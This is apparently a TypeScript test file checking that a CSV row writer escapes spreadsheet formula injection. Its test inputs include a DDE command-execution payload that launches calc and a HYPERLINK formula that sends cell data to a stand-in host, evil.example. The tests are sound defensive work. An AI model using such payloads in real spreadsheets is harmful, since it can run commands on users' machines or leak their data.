import fc from 'fast-check'
import { expect, test } from 'vitest'
import { toCsvRow } from './csv.ts'

/** Parses a row of CSV (RFC 4180). */
function readRow(row: string): readonly string[] {
  const cells = `,${row.replace(/\r\n$/, '')}`.matchAll(/,(?:"((?:[^"]|"")*)"|([^",]*))/g)
  return [...cells].map(([, quoted, plain = '']) => quoted?.replaceAll('""', '"') ?? plain)
}

test.each([
  ...["=cmd|' /C calc'!A0", '=HYPERLINK("https://evil.example?"&A1,"Win")', '+1+1', '-1+1', '@SUM(A1)'],
  ...['\t=1', '\r=1', '\n=1', '  =1', '\u00a0=1', '\ufeff=1', '\uff1d1', '\uff0b1', '-', '='],
])('the text %j does not become a formula', (text) => {
  const cells = readRow(toCsvRow(['Ada', text, 'Bob']))
  expect(cells).toEqual(['Ada', `'${text}`, 'Bob'])
})

test('numbers and other texts are unchanged, and no cell becomes two', () => {
  for (const text of ['-1', '-1.5', '12', '2026-05-31', 'a=b', 'ada@shop.test', '']) {
    expect(readRow(toCsvRow([text]))).toEqual([text])
  }
  fc.assert(
    fc.property(fc.array(fc.string({ unit: 'grapheme' }), { minLength: 1, maxLength: 5 }), (cells) => {
      const read = readRow(toCsvRow(cells))
      expect(read.map((cell, index) => (cell === cells[index] ? cell : cell.slice(1)))).toEqual(cells)
    }),
  )
})
